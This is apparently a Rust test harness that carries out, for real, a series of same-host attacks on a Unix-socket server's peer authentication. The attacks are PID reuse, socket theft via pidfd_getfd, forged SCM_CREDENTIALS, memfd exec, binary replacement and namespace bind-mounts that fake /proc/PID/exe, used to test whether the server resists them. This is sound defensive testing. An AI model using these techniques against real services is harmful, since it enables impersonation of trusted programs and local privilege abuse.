//! The attacker: the experiments of row 7.0 that a same-host intruder would try, each carried out for real
//! against a Unix socket that speaks HTTP/1.1, or gRPC if the request path is one of its methods. In go an experiment's
//! name, a socket and a request path; out comes one line of JSON with what the server answered. It never judges the answer: a test does, and an
//! experiment that could not be carried out says so (exit 3) instead of passing for a repelled attack.
#![expect(unsafe_code, reason = "fork, unshare, mount and dropping to another uid are what is being tried")]

mod target;

use std::{
    env,
    ffi::{CStr, CString},
    fmt::Display,
    fs,
    io::{self, IoSlice, IoSliceMut, PipeReader, PipeWriter, Read as _, Write as _},
    mem::MaybeUninit,
    os::{
        fd::{AsFd, AsRawFd as _, BorrowedFd, OwnedFd, RawFd},
        unix::{ffi::OsStrExt as _, fs::PermissionsExt as _, net::UnixStream, process::CommandExt as _},
    },
    path::{Path, PathBuf},
    process::{self, Command, ExitCode},
    ptr, thread,
    time::Duration,
};

use rustix::{
    cmsg_space,
    fs::{MemfdFlags, memfd_create},
    net::{
        RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer, SendAncillaryMessage,
        SendFlags, UCred, recvmsg, sendmsg,
    },
    process::{
        Pid, PidfdFlags, PidfdGetfdFlags, Signal, WaitOptions, getegid, geteuid, getpid, getppid,
        kill_process, pidfd_getfd, pidfd_open, waitpid,
    },
};
use serde::{Serialize, de::DeserializeOwned};
use serde_json::{Value, json};
use target::{Heard, PATIENCE, Target, hear};
use tempfile::{NamedTempFile, TempPath};

const USAGE: &str = "usage: attacker EXPERIMENT SOCKET REQUEST_PATH [ARGS..]
  honest | E1 | E3 | E5 | E6 | E7 | E10 | E17 | half-open | smuggle
  E2 UID | E4 UID         (root)
  E21 | E21b | E21c TRUSTED_PATH   (KB_STOP_PID; a sleep for the first two, a cat for the third)
  E22 TRUSTED_PATH UID    (root, or UID is your own)
  E26                     (KB_STOP_PID: the server to hold still meanwhile)";

/// How long a half-open connection is held.
const STUBBORNNESS: Duration = Duration::from_secs(20);

/// How often a pid is asked for.
const TRIES: usize = 50;

/// What came of an experiment, or why it cannot be carried out here.
type Outcome = Result<Heard, String>;

fn main() -> ExitCode {
    let args: Vec<String> = env::args().skip(1).collect();
    let misuse = || {
        eprintln!("{USAGE}");
        ExitCode::from(2)
    };
    let [experiment, socket, request_path, rest @ ..] = args.as_slice() else { return misuse() };
    let target = Target { socket: socket.into(), request_path: request_path.clone() };
    let outcome = match (experiment.as_str(), rest) {
        ("honest", []) => target.connect().map(|stream| target.speak(stream)),
        ("E1", []) => connect_fork_exit(&target),
        ("E2", [uid]) => number(uid).and_then(|uid| become_another_uid(&target, uid)),
        ("E3", []) => exec_after_connect(&target),
        ("E4", [uid]) => number(uid).and_then(|uid| pass_to_another_uid(&target, uid)),
        ("E5", []) => reuse_the_pid(&target),
        ("E6", []) => speak_without_a_file(&target),
        ("E7", []) => Err(exec_a_memfd(&args)),
        ("E10", []) => steal_by_pidfd(&target),
        ("E17", []) => forge_the_stamp(&target),
        ("E21", [trusted]) => become_the_trusted(&target, trusted, Sibling::Silent),
        ("E21b", [trusted]) => become_the_trusted(&target, trusted, Sibling::Echoes),
        ("E21c", [trusted]) => become_the_trusted(&target, trusted, Sibling::EchoesThroughIt),
        ("E22", [trusted, uid]) => number(uid).and_then(|uid| forge_the_exe_link(&target, trusted, uid)),
        ("E26", []) => write_before_accept(&target),
        ("half-open", []) => target.connect().map(|stream| hear(stream, STUBBORNNESS)),
        ("smuggle", []) => smuggle_descriptors(&target),
        _ => return misuse(),
    };
    let (mut line, code) = match outcome {
        Ok(Heard { answer, note }) => (json!({"ran": true, "answer": answer, "note": note}), 0),
        Err(why) => (json!({"ran": false, "why": why}), 3),
    };
    line["experiment"] = json!(experiment);
    println!("{line}");
    ExitCode::from(code)
}

/// E1. A connects, forks B and is gone and reaped before B speaks: `SO_PEERCRED` names a dead process, and only
/// the stamp on the chunk shows B.
fn connect_fork_exit(target: &Target) -> Outcome {
    let (answer, tell) = io::pipe().map_err(because("pipe"))?;
    let (wait, go) = io::pipe().map_err(because("pipe"))?;
    let connector = fork(move || match target.connect() {
        Err(why) => report::<Heard>(&tell, &Err(why)),
        Ok(stream) => {
            let _speaker = fork(move || {
                // The other end is in this process too, so only a byte, not an end of file, can be awaited.
                let _ = (&wait).read_exact(&mut [0]);
                report(&tell, &Ok(target.speak(stream)));
            });
        }
    })?;
    reap(connector);
    // Where B never came to be, nobody reads this, and the report below says so.
    let _ = (&go).write_all(b"g");
    remark(receive(answer), &format!("connector {} was gone", connector.as_raw_pid()))
}

/// E2. Root connects and gives up its privileges: `SO_PEERCRED` says uid 0 for as long as the connection lives.
fn become_another_uid(target: &Target, uid: u32) -> Outcome {
    let stream = target.connect()?;
    become_uid(uid).map_err(because("become that uid"))?;
    Ok(target.speak(stream))
}

/// E3. A connects and execs a harmless program, so everything under A's pid looks trusted; the speaker is the
/// child that kept the socket.
fn exec_after_connect(target: &Target) -> Outcome {
    let (answer, tell) = io::pipe().map_err(because("pipe"))?;
    let connector = fork(move || match target.connect() {
        Err(why) => report::<Heard>(&tell, &Err(why)),
        Ok(stream) => {
            let speaker = fork(move || report(&tell, &speak_under_a_disguise(target, stream)));
            if speaker.is_ok() {
                // Returns only when it fails, and then the speaker sees no disguise and reports that.
                let _ = Command::new("/bin/sleep").arg("5").exec();
            }
        }
    })?;
    let heard = receive(answer);
    stop(connector);
    heard
}

/// E4. A connects and passes the descriptor to a process of another uid, which speaks: the server must not
/// take the one's identity for the other's words.
fn pass_to_another_uid(target: &Target, uid: u32) -> Outcome {
    if !geteuid().is_root() {
        return Err("only root can become another uid: run this experiment as root".to_owned());
    }
    let (answer, tell) = io::pipe().map_err(because("pipe"))?;
    let (ours, theirs) = UnixStream::pair().map_err(because("socketpair"))?;
    let speaker = fork(move || {
        let changed = become_uid(uid).map_err(because("become that uid"));
        report(&tell, &changed.and_then(|()| take(&theirs)).map(|stream| target.speak(stream)));
    })?;
    // Only now, so that the speaker does not inherit what it is to be passed.
    let heard = target.connect().and_then(|stream| {
        pass(&ours, &[stream.as_fd()], b"x")?;
        remark(receive(answer), &format!("connector was pid {} uid 0", own_pid()))
    });
    stop(speaker);
    heard
}

/// E5. A connects, hands the socket over and dies; another process is born with A's number and speaks. Whoever
/// looks the connector up by its number finds, alive and well, somebody else.
fn reuse_the_pid(target: &Target) -> Outcome {
    for tries in 1..=TRIES {
        let (ours, theirs) = UnixStream::pair().map_err(because("socketpair"))?;
        let connector = fork(move || {
            let _ = target.connect().and_then(|stream| pass(&theirs, &[stream.as_fd()], b"x"));
        })?;
        reap(connector);
        let stream =
            take(&ours).map_err(|_| format!("nobody could connect to {}", target.socket.display()))?;
        let (answer, tell) = io::pipe().map_err(because("pipe"))?;
        let pid = connector.as_raw_pid();
        fs::write("/proc/sys/kernel/ns_last_pid", (pid - 1).to_string())
            .map_err(because("write ns_last_pid (wants root with CAP_SYS_ADMIN in the pid namespace)"))?;
        let heir = fork(move || {
            if getpid() == connector {
                report(&tell, &Ok(target.speak(stream)));
            }
        })?;
        reap(heir);
        // Otherwise some thread was quicker and may keep the number for long: only a new connector helps.
        if heir == connector {
            return remark(receive(answer), &format!("pid {pid} was born again at try {tries}"));
        }
    }
    Err(format!("no pid came back in {TRIES} tries: run on a quieter machine"))
}

/// E6. The program's file is replaced while it runs: its path now leads to another.
fn speak_without_a_file(target: &Target) -> Outcome {
    let own = env::current_exe().map_err(because("find our own file"))?;
    fs::remove_file(&own).map_err(because("remove our own file"))?;
    fs::copy("/bin/true", &own).map_err(because("put another in its place"))?;
    Ok(target.speak(target.connect()?))
}

/// E7. The same bytes as the trusted program, out of memory: there is no file that anybody could have vetted. Returns only if
/// that is not to be had.
fn exec_a_memfd(args: &[String]) -> String {
    let exec = || -> io::Result<()> {
        let own = fs::read("/proc/self/exe")?;
        let mut file = fs::File::from(memfd_create("attacker", MemfdFlags::empty())?);
        file.write_all(&own)?;
        let program = format!("/proc/self/fd/{}", file.as_raw_fd());
        Err(Command::new(program).arg("honest").args(&args[1..]).exec())
    };
    exec().err().map(because("exec a memfd")).unwrap_or_default()
}

/// E10. A victim connects and idles; a thief of the same uid takes the connected socket out of it and speaks.
/// The thief is the victim's parent, whom Yama's `ptrace_scope=1` lets through as well.
fn steal_by_pidfd(target: &Target) -> Outcome {
    let (numbers, tell) = io::pipe().map_err(because("pipe"))?;
    let victim = fork(move || {
        let stream = target.connect();
        report::<RawFd>(&tell, &stream.as_ref().map(|stream| stream.as_raw_fd()).map_err(String::clone));
        drop(tell);
        thread::sleep(STUBBORNNESS);
    })?;
    let heard = receive::<RawFd>(numbers).and_then(|number| {
        let hold = pidfd_open(victim, PidfdFlags::empty()).map_err(because("pidfd_open"))?;
        let stolen = pidfd_getfd(&hold, number, PidfdGetfdFlags::empty())
            .map_err(because("pidfd_getfd (wants Yama ptrace_scope below 2 and no seccomp filter)"))?;
        Ok(target.speak(UnixStream::from(stolen)))
    });
    stop(victim);
    remark(heard, &format!("victim was pid {}", victim.as_raw_pid()))
}

/// What the sibling does about a challenge.
#[derive(Clone, Copy)]
enum Sibling {
    Silent,
    Echoes,
    EchoesThroughIt,
}

/// E21. A asks, leaves the socket with a sibling and becomes the trusted program, all before the server looks: every
/// fact about A is the trusted program's, and the sibling waits for the answer. E21b: the sibling answers a challenge
/// itself. E21c: the trusted program copies what it is given, and the sibling gives it the answer.
fn become_the_trusted(target: &Target, trusted: &str, sibling: Sibling) -> Outcome {
    let stop_pid = env::var("KB_STOP_PID").map_err(|_| "set KB_STOP_PID to the server's pid".to_owned())?;
    let (answer, tell) = io::pipe().map_err(because("pipe"))?;
    let (mut disguise, disguised) = io::pipe().map_err(because("pipe"))?;
    let held = Held::still(&stop_pid)?;
    let connector = fork(move || {
        let asked = target.connect().and_then(|mut stream| {
            stream.write_all(&target.request()).map_err(because("write the request"))?;
            Ok((stream, io::pipe().map_err(because("pipe"))?))
        });
        let (stream, (stdin, echo)) = match asked {
            Ok(asked) => asked,
            Err(why) => return report::<Heard>(&tell, &Err(why)),
        };
        let Ok(theirs) = stream.try_clone() else { return };
        let speaker = fork(move || {
            report(&tell, &wait_for_the_answer(target, stream, disguised, echo, sibling));
        });
        if speaker.is_ok() {
            let mut command = Command::new(trusted);
            let _ = match sibling {
                Sibling::EchoesThroughIt => command.stdin(stdin).stdout(OwnedFd::from(theirs)).exec(),
                Sibling::Silent | Sibling::Echoes => command.arg("60").exec(),
            };
        }
    })?;
    // An end of file says that it did not come to that, and the report says why.
    let _ = disguise.read_exact(&mut [0]);
    drop(held);
    let heard = receive(answer);
    stop(connector);
    heard
}

/// The part of E21's sibling.
fn wait_for_the_answer(
    target: &Target,
    stream: UnixStream,
    mut disguised: PipeWriter,
    mut through_it: PipeWriter,
    sibling: Sibling,
) -> Outcome {
    let connector = seen_as_another(getppid().map_or(0, Pid::as_raw_pid))?;
    disguised.write_all(b"d").map_err(because("say that the disguise is on"))?;
    let mut directly = stream.try_clone().map_err(because("share the socket"))?;
    let echo: Option<&mut dyn io::Write> = match sibling {
        Sibling::Silent => None,
        Sibling::Echoes => Some(&mut directly),
        Sibling::EchoesThroughIt => Some(&mut through_it),
    };
    remark(Ok(target.hear(stream, STUBBORNNESS, echo)), &connector)
}

/// E22. In a user and mount namespace of its own, without any privilege, the attacker binds its program over a
/// trusted one and runs it by that name, so the text of `/proc/PID/exe` is the trusted path.
fn forge_the_exe_link(target: &Target, trusted: &str, uid: u32) -> Outcome {
    let trusted = fs::canonicalize(trusted).map_err(because(trusted))?;
    let forgery = own_copy().map_err(because("copy this program to the temporary directory"))?;
    let mut command = Command::new(&trusted);
    command.arg("honest").arg(&target.socket).arg(&target.request_path);
    if geteuid().is_root() {
        command.uid(uid).gid(uid);
    } else if geteuid().as_raw() != uid {
        return Err(format!("only root can become uid {uid}: run as root or name your own uid"));
    }
    let c_string = |path: &Path| CString::new(path.as_os_str().as_bytes()).map_err(because("name a file"));
    let (from, onto) = (c_string(&forgery)?, c_string(&trusted)?);
    // SAFETY: this program has one thread, so the child may do whatever the parent may.
    unsafe { command.pre_exec(move || bind_in_own_namespace(&from, &onto)) };
    let output = command.output().map_err(because("run in a namespace (wants user namespaces allowed)"))?;
    let line: Value = serde_json::from_slice(&output.stdout)
        .map_err(|_| format!("the genuine {} ran, not the forgery", trusted.display()))?;
    let why = line["why"].as_str().unwrap_or("the forgery said nothing").to_owned();
    serde_json::from_value(line).map_err(|_| why)
}

/// E26. The whole request is in the socket at once, and before `accept()` if the server is held still: whether
/// such words carry a stamp must not hang on when the server asked for stamps.
fn write_before_accept(target: &Target) -> Outcome {
    let held = env::var("KB_STOP_PID").ok().map(|pid| Held::still(&pid)).transpose()?;
    let mut stream = target.connect()?;
    stream.write_all(&target.request()).map_err(because("write the request"))?;
    let how = if let Some(_held) = held {
        thread::sleep(Duration::from_millis(200));
        "server was stopped meanwhile"
    } else {
        "server was free to accept"
    };
    remark(Ok(hear(stream, PATIENCE)), how)
}

/// Three descriptors ride on the request. A server that does not expect them must not keep them.
fn smuggle_descriptors(target: &Target) -> Outcome {
    let stream = target.connect()?;
    let null = fs::File::open("/dev/null").map_err(because("open /dev/null"))?;
    pass(&stream, &[null.as_fd(); 3], &target.request())?;
    remark(Ok(hear(stream, PATIENCE)), "3 descriptors attached")
}

/// E17. The stamp on a chunk is the kernel's, but a privileged process may set it: here to be pid 1.
fn forge_the_stamp(target: &Target) -> Outcome {
    let stream = target.connect()?;
    let mut space = [MaybeUninit::uninit(); cmsg_space!(ScmCredentials(1))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    let forged = UCred { pid: Pid::INIT, uid: geteuid(), gid: getegid() };
    assert!(control.push(SendAncillaryMessage::ScmCredentials(forged)), "one stamp fits");
    let request = target.request();
    sendmsg(&stream, &[IoSlice::new(&request)], &mut control, SendFlags::NOSIGNAL)
        .map_err(because("forge a stamp (wants root)"))?;
    Ok(hear(stream, PATIENCE))
}

/// The part of E3's speaker: waits until its parent has put on the other program, then speaks.
fn speak_under_a_disguise(target: &Target, stream: UnixStream) -> Outcome {
    let disguise = seen_as_another(getppid().map_or(0, Pid::as_raw_pid))?;
    remark(Ok(target.speak(stream)), &disguise)
}

/// Waits until a process runs another program than this one.
fn seen_as_another(pid: i32) -> Result<String, String> {
    for _ in 0..200 {
        if let Some(exe) = exe_of(pid).filter(|exe| Some(exe) != exe_of(own_pid()).as_ref()) {
            return Ok(format!("connector pid {pid} exe {}", exe.display()));
        }
        thread::sleep(Duration::from_millis(10));
    }
    Err("the connector did not become the other program: is it there?".to_owned())
}

/// Gives up every privilege for `uid`, whose group has the same number.
fn become_uid(uid: u32) -> io::Result<()> {
    // SAFETY: three calls on plain numbers; an empty list of groups is never read.
    let refused = unsafe { libc::setgroups(0, ptr::null()) | libc::setgid(uid) | libc::setuid(uid) };
    if refused == 0 { Ok(()) } else { Err(io::Error::last_os_error()) }
}

/// New user and mount namespaces, in which `from` lies over `onto`. Nothing of it is seen outside.
fn bind_in_own_namespace(from: &CStr, onto: &CStr) -> io::Result<()> {
    // SAFETY: a call on plain numbers.
    let apart = || unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) };
    let keep_in = || mount(c"none", c"/", libc::MS_REC | libc::MS_PRIVATE);
    let cover = || mount(from, onto, libc::MS_BIND);
    if apart() == 0 && keep_in() == 0 && cover() == 0 { Ok(()) } else { Err(io::Error::last_os_error()) }
}

fn mount(from: &CStr, onto: &CStr, flags: libc::c_ulong) -> libc::c_int {
    // SAFETY: both are C strings that outlive the call; type and options may be null for these flags.
    unsafe { libc::mount(from.as_ptr(), onto.as_ptr(), ptr::null(), flags, ptr::null()) }
}

/// A copy of this program where every uid can reach it, removed when dropped.
fn own_copy() -> io::Result<TempPath> {
    let own = fs::read("/proc/self/exe")?;
    let mut copy = NamedTempFile::new()?;
    copy.write_all(&own)?;
    copy.as_file().set_permissions(fs::Permissions::from_mode(0o755))?;
    // Closed: a file open for writing cannot be run.
    Ok(copy.into_temp_path())
}

/// A server that is stopped, and goes on whatever happens to us.
struct Held(Pid);

impl Held {
    fn still(pid: &str) -> Result<Self, String> {
        let wrong = || format!("KB_STOP_PID={pid}: name a process above 1 that we may signal");
        let target = pid.parse().ok().filter(|pid| *pid > 1).and_then(Pid::from_raw).ok_or_else(wrong)?;
        kill_process(target, Signal::STOP).map_err(|_| wrong())?;
        let held = Self(target);
        // The signal is sent, not yet obeyed: the state is the first word after the name's last bracket.
        for _ in 0..100 {
            let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            if stat.rsplit_once(") ").is_some_and(|(_, rest)| rest.starts_with('T')) {
                return Ok(held);
            }
            thread::sleep(Duration::from_millis(10));
        }
        Err(format!("process {pid} does not stop"))
    }
}

impl Drop for Held {
    fn drop(&mut self) {
        let _ = kill_process(self.0, Signal::CONT);
    }
}

/// Runs `work` in a child. What the closure owns is closed in the parent when this returns.
fn fork(work: impl FnOnce()) -> Result<Pid, String> {
    // SAFETY: this program has one thread, so the child may do whatever the parent may.
    match unsafe { libc::fork() } {
        -1 => Err(because("fork")(io::Error::last_os_error())),
        0 => {
            work();
            process::exit(0)
        }
        pid => Ok(Pid::from_raw(pid).expect("fork gives the parent a positive number")),
    }
}

fn reap(child: Pid) {
    let _ = waitpid(Some(child), WaitOptions::empty());
}

fn stop(child: Pid) {
    let _ = kill_process(child, Signal::KILL);
    reap(child);
}

/// Puts what was being done before the error.
fn because<E: Display>(doing: &str) -> impl Fn(E) -> String {
    move |error| format!("{doing}: {error}")
}

/// Adds to the note of what was heard.
fn remark(outcome: Outcome, more: &str) -> Outcome {
    outcome.map(|heard| Heard { note: format!("{}; {more}", heard.note), ..heard })
}

fn report<T: Serialize>(mut tell: &PipeWriter, said: &Result<T, String>) {
    let text = serde_json::to_vec(said).expect("numbers and strings are always JSON");
    // A parent that no longer listens has said why.
    let _ = tell.write_all(&text);
}

fn receive<T: DeserializeOwned>(mut answer: PipeReader) -> Result<T, String> {
    let mut text = Vec::new();
    answer.read_to_end(&mut text).map_err(because("read the speaker's report"))?;
    serde_json::from_slice(&text).unwrap_or_else(|_| Err("no report came: try again".to_owned()))
}

/// Sends `bytes` with `load`, three descriptors at most.
fn pass(over: &UnixStream, load: &[BorrowedFd<'_>], bytes: &[u8]) -> Result<(), String> {
    let mut space = [MaybeUninit::uninit(); cmsg_space!(ScmRights(3))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    assert!(control.push(SendAncillaryMessage::ScmRights(load)), "three descriptors fit");
    let sent = sendmsg(over, &[IoSlice::new(bytes)], &mut control, SendFlags::NOSIGNAL);
    sent.map(drop).map_err(because("send descriptors"))
}

fn take(from: &UnixStream) -> Result<UnixStream, String> {
    let mut space = [MaybeUninit::uninit(); cmsg_space!(ScmRights(1))];
    let mut control = RecvAncillaryBuffer::new(&mut space);
    recvmsg(from, &mut [IoSliceMut::new(&mut [0])], &mut control, RecvFlags::CMSG_CLOEXEC)
        .map_err(because("receive a descriptor"))?;
    let passed: Option<OwnedFd> = control.drain().find_map(|message| match message {
        RecvAncillaryMessage::ScmRights(mut fds) => fds.next(),
        _ => None,
    });
    passed.map(UnixStream::from).ok_or_else(|| "no descriptor was passed".to_owned())
}

fn exe_of(pid: i32) -> Option<PathBuf> {
    fs::read_link(format!("/proc/{pid}/exe")).ok()
}

fn own_pid() -> i32 {
    getpid().as_raw_pid()
}

fn number(text: &str) -> Result<u32, String> {
    text.parse().map_err(because("UID wants a number"))
}
